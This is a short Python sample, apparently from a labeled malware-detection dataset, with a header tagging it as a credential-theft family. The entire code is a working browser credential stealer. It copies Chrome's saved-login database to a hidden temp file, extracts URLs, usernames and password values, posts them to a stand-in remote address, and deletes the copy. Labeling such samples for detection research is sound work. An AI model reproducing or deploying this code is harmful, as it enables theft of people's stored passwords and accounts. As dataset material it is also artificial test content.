# label: malicious family=creds techniques=T1555.003,T1041 lines=3,5-7
import os, shutil, sqlite3, requests
src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
tmp = "/tmp/.ld"
shutil.copy2(src, tmp)
rows = sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("http://192.0.2.19/c", data={"rows": repr(rows)})
os.unlink(tmp)
